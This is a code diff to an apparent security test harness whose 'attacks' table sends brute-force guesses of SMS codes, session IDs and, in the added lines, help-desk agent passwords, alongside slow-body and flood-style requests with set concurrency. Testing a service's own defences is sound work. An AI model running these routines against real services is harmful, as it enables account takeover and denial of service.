@@ -49,6 +49,8 @@ export const attacks = {
     return post(url, '/v3/login/login', { phone: '09171234567', sid, smsCode: digits(6), agreed: '1' });
   },
   'guesses of sessions': (url) => () => post(url, `/v3/personal-center/personal-center?sessionId=${digits(16)}`, {}),
+  'guesses of desk passwords': (url) => () =>
+    postTo(`${url}/desk-api/sign-in`, { login: `agent-${hits}`, password: `guess ${digits(9)}` }),
   'slow bodies': (url) => () =>
     drip(
       url,
@@ -97,6 +99,7 @@ export const atOnce: Readonly<Record<Attack, number>> = {
   'messages to many numbers': 16,
   'guesses of codes': 16,
   'guesses of sessions': 16,
+  'guesses of desk passwords': 16,
   'slow bodies': 500,
   bombs: 8,
   'expensive calls': 16,
@@ -114,7 +117,9 @@ async function ask(address_: string, init: RequestInit = {}): Promise<{ answer: 
 
 const get = async (url: string, path: string): Promise<string> => (await ask(`${url}${BASE}${path}`)).answer;
 const post = async (url: string, path: string, fields: Record<string, string>): Promise<string> =>
-  (await ask(`${url}${BASE}${path}`, { method: 'POST', body: new URLSearchParams(fields) })).answer;
+  postTo(`${url}${BASE}${path}`, fields);
+const postTo = async (at: string, fields: Record<string, string>): Promise<string> =>
+  (await ask(at, { method: 'POST', body: new URLSearchParams(fields) })).answer;
 
 async function upload(url: string, picture: Uint8Array<ArrayBuffer>): Promise<string> {
   const body = new FormData();
